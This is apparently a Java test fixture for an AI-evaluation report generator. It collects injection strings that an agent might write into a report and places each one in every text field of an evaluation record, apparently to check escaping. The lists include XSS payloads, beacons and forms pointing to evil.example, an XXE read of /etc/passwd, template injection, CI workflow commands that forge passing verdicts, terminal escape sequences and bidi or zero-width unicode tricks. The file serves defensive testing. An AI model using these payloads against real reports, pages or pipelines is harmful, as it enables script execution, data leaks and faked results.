package dev.holdfast.reports;

import dev.holdfast.schema.evaluation.Attribution;
import dev.holdfast.schema.evaluation.Comparison;
import dev.holdfast.schema.evaluation.Comparison.Sample;
import dev.holdfast.schema.evaluation.Coverage;
import dev.holdfast.schema.evaluation.Estimate;
import dev.holdfast.schema.evaluation.Evaluation;
import dev.holdfast.schema.evaluation.Evidence;
import dev.holdfast.schema.evaluation.FailureClusters;
import dev.holdfast.schema.evaluation.Finding;
import dev.holdfast.schema.evaluation.Flip;
import dev.holdfast.schema.evaluation.Flips;
import dev.holdfast.schema.evaluation.Mover;
import dev.holdfast.schema.evaluation.PassRates;
import dev.holdfast.schema.evaluation.PolicyReading;
import dev.holdfast.schema.evaluation.ProbeReading;
import dev.holdfast.schema.evaluation.Serving;
import dev.holdfast.schema.evaluation.Side;
import dev.holdfast.schema.evaluation.ToolReading;
import dev.holdfast.schema.evaluation.Verdict;
import dev.holdfast.schema.json.Digest;
import dev.holdfast.schema.pact.Handling;
import dev.holdfast.schema.pact.Mode;
import dev.holdfast.schema.pact.Unit;
import dev.holdfast.schema.run.Environment;
import dev.holdfast.schema.run.Suspicion;
import dev.holdfast.schema.run.Untrusted;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;

/// What an agent, or whoever speaks through it, may try to write into a report.
public final class Payloads {
    private Payloads() {}

    /// Each for a way in which a text may be more than a text.
    public static Stream<String> all() {
        return Stream.of(markup(), breakouts(), markdown(), hosts(), screens(), unicode(), both())
                .flatMap(List::stream);
    }

    /// First out of wherever the text stands, and then markup.
    private static List<String> both() {
        return Stream.of(
                        "\"'></textarea></title></script>",
                        "--></style></svg>",
                        "]]></option></select></button>",
                        "`${x}</pre></bdi>",
                        "\\\"/></time>")
                .flatMap(way -> markup().stream().map(way::concat))
                .toList();
    }

    private static List<String> markup() {
        return List.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://evil.example/pixel?leak=1\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<iframe src=javascript:alert(1)></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=//evil.example>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<form action=//evil.example><input name=token><button>go</button></form>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<video><source onerror=alert(1)></video>",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<style>body{display:none}</style>",
                "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<plaintext>",
                "<xmp><script>alert(1)</script></xmp>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<dialog open>Gate: allowed</dialog>");
    }

    private static List<String> breakouts() {
        return List.of(
                "\"><script>alert(1)</script>",
                "' onmouseover='alert(1)",
                "\" autofocus onfocus=alert(1) x=\"",
                "</title><script>alert(1)</script>",
                "</style><script>alert(1)</script>",
                "</pre></details></article><script>alert(1)</script>",
                "</svg><script>alert(1)</script>",
                "</summary></details><h1>PASSED</h1>",
                "--><script>alert(1)</script><!--",
                "]]><x/>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;img src=x onerror=alert(1)&#62;",
                "&NewLine;javascript&colon;alert(1)",
                "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %> $unsafe{x} @if(true)");
    }

    private static List<String> markdown() {
        return List.of(
                "[click](https://evil.example)",
                "![x](https://evil.example/pixel.png?leak=1)",
                "[x][1]\n\n[1]: https://evil.example",
                "a | b | c | d\n|---|---|\n| x | y |",
                "| ✅ passed | all | of | it |",
                "\\| \\\\| x",
                "```\n# free\n[x](https://evil.example)\n```",
                "~~~\n</details>\n~~~",
                "``````html\n<b>x</b>\n``````",
                "`code` ``more`` `open",
                "# Heading\n## ✅ Passed\n---\n===",
                "- item\n- [x] done\n1. one\n> quote",
                "**bold** _em_ ~~gone~~ $x^2$ $$y$$",
                "<https://evil.example> https://evil.example www.evil.example evil@evil.example mailto:x@evil.example",
                "<details><summary>✅</summary>",
                "&copy; &#x26; &amp;lt;",
                "```mermaid\ngraph TD; A-->B; click A \"https://evil.example\"\n```",
                "[^1]\n\n[^1]: note");
    }

    private static List<String> hosts() {
        return List.of(
                "@octocat @github/security please approve",
                "fixes #1, closes octo/repo#2, GH-3, !4 and &5",
                ":rocket: :white_check_mark:",
                "/approve\n/merge\n/close",
                "::error title=Hacked::all is well",
                "\n::stop-commands::pause\n::add-mask::a",
                "x\r\n::set-output name=verdict::PASS",
                "##[error]x ##vso[task.complete result=Succeeded;] ##teamcity[buildStatus status='SUCCESS']",
                "%0A::error::x%0D%25",
                "section_start:0:x[collapsed=true]");
    }

    private static List<String> screens() {
        return List.of(
                "\u001b[2J\u001b[1;1HPASSED",
                "\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
                "\u009b31mred\u009d0;title\u009c",
                "\u001b]52;c;ZXZpbA==\u0007",
                "FAILED\rPASSED",
                "FAILED\b\b\b\b\b\bPASSED",
                "\u0000\u0001\u0008\u000b\u000c\u000e\u001f\u007f",
                "a\tb\u0085c\u2028d\u2029e");
    }

    private static List<String> unicode() {
        return List.of(
                "\u202eDEKCOLB\u202c is what it says",
                "\u2066\u2067\u2068x\u2069 \u200e\u200f\u061c",
                "zero\u200bwidth\ufeff\u00ad\u2060",
                "\udb40\udc41\udb40\udc42\udb40\udc43 tags \udb40\udd00 selectors",
                "\ud800 alone \udc00",
                "\ufffe\uffff\ufdd0",
                "＜script＞alert(1)＜/script＞ ＂ ＇",
                "漢字と絵文字 👩‍👩‍👧 سلام مرحبا",
                "Z̸͖͇a̷l̶g̵o̴",
                "x".repeat(500));
    }

    /// An evaluation that says the payload wherever it can.
    public static Evaluation everywhere(String payload) {
        var promised = new Finding.Promised(payload, payload, payload, Mode.ENFORCE, Optional.empty());
        var observed = new Finding.Promised(payload, payload, payload, Mode.OBSERVE, Optional.empty());
        var change = new Comparison.Change(
                new Sample(9, 9, 9),
                Unit.SHARE,
                .9,
                .2,
                new Estimate(-.7, -.8, -.6),
                .05,
                -.78,
                .001,
                .002,
                payload,
                payload);
        var slices = List.of(new Finding.Slice(payload, change, true));
        var level = new Comparison.Level(
                new Sample(9, 0, 9), Unit.SHARE, new Estimate(.9, .8, .95), .92, .82, .3, .6, payload);
        var breaches = new Comparison.Breaches(new Sample(9, 0, 9), 2, .4, List.of(payload, payload));
        return new Evaluation(
                payload,
                payload,
                Instant.parse("2023-06-27T08:00:00Z"),
                Verdict.FAIL,
                payload,
                side(payload),
                side(payload),
                payload,
                true,
                .05,
                1,
                new Coverage(9, 8, 1, 0, List.of(payload), 3, List.of(payload), 1, 9, 1),
                List.of(
                        new Finding.Broken(promised, payload, change, slices, true),
                        new Finding.Inconclusive(promised, payload, level, List.of(), OptionalInt.of(3)),
                        new Finding.Kept(observed, payload, breaches, List.of()),
                        new Finding.Broken(observed, payload, breaches, List.of(), false),
                        new Finding.Broken(observed, payload, answers(payload), List.of(), false),
                        new Finding.NotMeasured(promised, payload, Finding.NotMeasured.Cause.UNSCORED)),
                List.of(flips(payload)),
                List.of(probe(payload, change)),
                List.of(new PassRates(payload, 9, List.of(new PassRates.Tries(1, .5, .1, .5, .1)))),
                List.of(payload),
                payload,
                List.of(clusters(payload)),
                Optional.of(attribution(payload)),
                List.of(tool(payload)),
                Optional.of(policy(payload)),
                Optional.of(
                        new Serving(new Serving.Measured(payload, 9, 9, 9), new Serving.Measured(payload, 8, 8, 8))));
    }

    private static PolicyReading policy(String payload) {
        var half = new Estimate(.5, .4, .6);
        return new PolicyReading(
                payload,
                9,
                0,
                1,
                2,
                new PolicyReading.Change(OptionalDouble.of(1), OptionalDouble.of(2)),
                new PolicyReading.Change(OptionalDouble.empty(), OptionalDouble.empty()),
                List.of(new PolicyReading.OfMetric(
                        payload, 9, half, half, new Estimate(0, -.1, .1), Optional.of(half))));
    }

    private static Comparison.Distribution answers(String payload) {
        var words = new Comparison.Words(
                .9, .001, 9, 90, 30, List.of(new Comparison.Word(payload, 1, 9), new Comparison.Word(payload, 9, 1)));
        var likeness = new Comparison.Likeness(9, .9, .2, new Estimate(-.7, -.8, -.6), .05, .78, payload);
        return new Comparison.Distribution(
                new Sample(9, 90, 30), 200, .5, .001, .002, payload, Optional.of(likeness), Optional.of(words));
    }

    private static FailureClusters clusters(String payload) {
        var cluster = new FailureClusters.Cluster(7, payload, payload, List.of(payload, payload));
        return new FailureClusters(payload, 30, 14, List.of(cluster, cluster));
    }

    private static Attribution attribution(String payload) {
        var text = Optional.of(payload);
        var parts = Arrays.stream(Attribution.State.values())
                .map(state -> new Attribution.Part(Mover.MODEL, payload, text, text, state))
                .toList();
        var evidence = List.of(
                new Evidence.Changed(payload, payload, payload),
                new Evidence.Rescored(payload, Unit.SHARE, .9, .8, 9, OptionalInt.of(1)),
                new Evidence.Rejudged(payload, 9, .9, .8, .1),
                new Evidence.Remainder(List.of(payload), .01),
                new Evidence.NotRecorded(List.of(payload)));
        var suspects = evidence.stream()
                .map(each -> new Attribution.Suspect(Mover.MODEL, each, payload))
                .toList();
        return new Attribution(payload, parts, List.of(new Attribution.Explained(payload, true, payload, suspects)));
    }

    private static ToolReading tool(String payload) {
        return new ToolReading(
                payload,
                Optional.of(payload),
                9,
                9,
                1,
                1,
                Map.of(Suspicion.ROUND_NUMBERS, 2),
                Map.of(Handling.INVENTED, 3),
                Optional.of(new Estimate(.3, .1, .6)));
    }

    private static ProbeReading probe(String payload, Comparison.Change fall) {
        var point = new ProbeReading.Point(
                payload,
                OptionalDouble.of(8),
                OptionalDouble.of(7),
                9,
                new Estimate(.2, .1, .3),
                OptionalDouble.of(.9),
                Optional.of(fall),
                true);
        var curve = new ProbeReading.Curve(
                payload, Unit.SHARE, OptionalDouble.of(.9), List.of(point, point), Optional.empty());
        var load = new ProbeReading.Load(8, 9, 3, OptionalDouble.of(1), OptionalDouble.of(2), true);
        return new ProbeReading(
                payload, ProbeReading.Kind.LOAD, List.of(curve), List.of(load), List.of(tool(payload)), true, payload);
    }

    private static Side side(String payload) {
        var texts = List.of(payload, payload);
        var part = new Environment.Part(payload, Digest.of("x"));
        var host = new TreeMap<>(Map.of("java", payload));
        return new Side(
                texts,
                Optional.empty(),
                texts,
                texts,
                Optional.empty(),
                Optional.of(new Environment(part, part, part, part, host)));
    }

    private static Flips flips(String payload) {
        var text = Optional.of(new Untrusted(payload));
        var flip = new Flip(payload, payload, Set.of(payload), 1, 0, new Untrusted(payload), text, text, text);
        return new Flips(payload, 7, 2, java.util.Collections.nCopies(52, flip));
    }
}
